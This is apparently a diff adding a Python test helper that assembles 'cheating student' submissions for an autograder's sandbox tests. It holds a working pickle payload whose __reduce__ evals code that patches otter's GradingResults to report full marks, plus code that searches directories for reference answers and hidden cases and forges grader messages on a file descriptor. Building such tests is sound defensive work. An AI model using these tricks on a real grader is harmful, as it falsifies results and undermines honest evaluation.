@@ -1,0 +1,146 @@
+"""What a cheating student hands in to the toy assignment, made of the attacks in the files beside this one.
+
+Each attack is Python text that runs when the file is loaded and again in every call of its functions. `HUNT` and
+`SECRETS` are filled in by the test: where results would lie, and the very files that a cheat would like to read, so
+that an attack fails by what stops it and not by looking in the wrong place. All are bounded, and touch loopback only.
+"""
+
+from dataclasses import dataclass
+from textwrap import dedent, indent
+
+# What a correct but do-nothing function earns: `double` left its argument alone, which is one case of weight 1 of 10.
+HARMLESS = 0.9
+
+
+@dataclass(frozen=True)
+class Attack:
+    """One way to cheat.
+
+    Attributes:
+        name: What the tests call it.
+        tries: What it tries, in a line.
+        code: Statements that try it, for the body of a function.
+        value: What the student's functions then return, as an expression; empty if they raise.
+        honest: What the work is worth without the attack.
+        right: Whether the functions return the right answers if the attack has found them.
+    """
+
+    name: str
+    tries: str
+    code: str = "pass"
+    value: str = ""
+    honest: float = 0.0
+    right: bool = False
+
+
+PRELUDE = """
+import atexit, builtins, ctypes, gc, glob, json, os, pickle, resource, signal, socket, struct, subprocess, sys
+import tempfile, threading, time
+import numpy as np
+
+HUNT = {hunt!r}
+SECRETS = {secrets!r}
+FULL = {{"tests": [{{"name": "toy", "score": 9.0, "max_score": 9.0, "visibility": "visible", "output": "passed"}}]}}
+RIGHT = {{}}
+# What a grader that unpickles this runs: from then on it writes full marks.
+MAKE = (
+    "[m := __import__('otter.test_files', fromlist=['x']), setattr(m.GradingResults, 'to_gradescope_dict', "
+    "lambda self, config: __import__('json').loads(" + repr(json.dumps(FULL)) + ")), m.GradingResults([])][-1]"
+)
+
+
+class Bomb:
+    def __reduce__(self):
+        return eval, (MAKE,)
+
+
+def write(path, content):
+    with open(path, "wb") as file:
+        file.write(content)
+
+
+def tree(limit=400):
+    for place in (HUNT, tempfile.gettempdir(), os.getcwd(), os.path.dirname(os.getcwd())):
+        for _, (folder, folders, names) in zip(range(limit), os.walk(place)):
+            yield folder, names
+
+
+# Written so that this file does not hold them itself.
+ANSWER = "2 * np-asarray(x)".replace("-", ".")
+CASE = "assert_choices-student".replace("-", "(")
+
+
+def found(text):
+    '''Use the reference if this is it, and a hidden case as far as it goes.'''
+    if ANSWER in text and "def double" in text:
+        exec(text[text.index("import numpy") :], RIGHT)
+    elif CASE in text:
+        RIGHT.setdefault("EVEN", "two")
+
+
+def read(path):
+    with open(path, "rb") as file:
+        found(file.read(1 << 20).decode("utf-8", "replace"))
+
+
+def quietly(action, *arguments):
+    try:
+        return action(*arguments)
+    except BaseException:
+        return None
+
+
+def say(*parts):
+    body = b"".join(parts)
+    os.write(3, struct.pack("<I", len(body)) + body)
+
+
+def text(s):
+    return b"s" + struct.pack("<I", len(s)) + s.encode()
+
+
+def group(tag, *parts):
+    return tag + struct.pack("<I", len(parts)) + b"".join(parts)
+
+
+def number(n):
+    return b"i" + struct.pack("<q", n)
+
+
+def answer(kind, body):
+    return group(b"t", text(kind), body, text(""), group(b"l"))
+
+
+def value(body):
+    return answer("value", group(b"t", body, b"N"))
+
+
+def raised(names, label="", line=1):
+    return answer("raised", group(b"t", group(b"l", *map(text, names)), text("x"), text(label), number(line)))
+
+
+def callback(handle, keywords):
+    return group(b"t", text("callback"), number(handle), group(b"t"), keywords)
+"""
+
+
+def submission(attacks: tuple[Attack, ...], hunt: str, secrets: list[str]) -> str:
+    """The text of a Python file that tries these attacks, one after the other, and knows no answer."""
+    parts = [PRELUDE.format(hunt=hunt, secrets=secrets)]
+    # A lone attack may raise or end the process; several must not stop each other.
+    alone = len(attacks) == 1
+    for index, attack in enumerate(attacks):
+        parts.append(f"def attack_{index}():\n{indent(dedent(attack.code).strip(), '    ')}\n")
+    calls = [f"    attack_{index}()" if alone else f"    quietly(attack_{index})" for index in range(len(attacks))]
+    parts.append("\n".join(["def strike():", *calls, "    if 'EVEN' in RIGHT: globals()['EVEN'] = RIGHT['EVEN']\n"]))
+    parts.append('EVEN = "three"\nstrike()\n')
+    value = attacks[0].value if alone else ""
+    for name in ("double", "total", "ask_twice"):
+        lines = [f"def {name}(x):", "    strike()"]
+        if any(attack.right for attack in attacks):
+            lines.append(f"    if {name!r} in RIGHT: return RIGHT[{name!r}](x)")
+        lines.append(f"    return {value}" if value else "    raise RuntimeError")
+        parts.append("\n".join(lines) + "\n")
+    if value:
+        parts.append(f"EVEN = {value}\n")
+    return "\n".join(parts)
